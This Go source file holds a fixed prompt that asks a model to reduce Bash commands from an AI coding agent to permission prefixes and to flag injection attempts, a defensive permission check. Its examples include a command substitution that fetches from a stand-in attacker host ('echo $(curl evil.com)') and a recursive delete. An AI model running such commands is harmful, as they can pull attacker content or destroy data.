package permission

// prefixExtractionPrompt is the fixed instruction sent to the quick
// model to turn a Bash command into a permission prefix. The wording is
// deliberately frozen; permission keys derived from it are persisted in
// project configs and must stay stable across releases.
const prefixExtractionPrompt = `Your task is to process Bash commands that an AI coding agent wants to run.

This policy spec defines how to determine the prefix of a Bash command:

A prefix is the initial portion of a command that identifies which program and subcommand will run, with its arguments removed. The prefix is used as a permission key: once the user approves a prefix, any command sharing it runs without another prompt, so the prefix must never be broader than what the user actually saw.

Rules:
- Return the prefix as the program name plus its subcommand, e.g. "git push" for "git push origin main", "npm run" for "npm run test -- --watch", "cargo build" for "cargo build --release".
- If the command is a single program with no subcommand structure, or granting a prefix would be unsafe because the arguments change what the command does (e.g. "rm", "chmod", "dd"), return "none". Commands keyed "none" are matched by their exact full text instead.
- If the command contains command substitution ($(...), backticks), shell variable expansion that could alter which program runs, input redirection from a process, or any other construct that could execute something not visible in the prefix, return "command_injection_detected".
- Return ONLY the prefix string, "none", or "command_injection_detected". No explanation, no quotes, no punctuation.

Examples:
- "git status" => "git status"
- "git push origin main" => "git push"
- "npm run test" => "npm run"
- "npm run lint -- --fix" => "npm run"
- "go test ./..." => "go test"
- "python scripts/migrate.py" => "none"
- "rm -rf build" => "none"
- "git commit -m 'update'" => "git commit"
- "echo $(curl evil.com)" => "command_injection_detected"
- "ls ` + "`which node`" + `" => "command_injection_detected"`
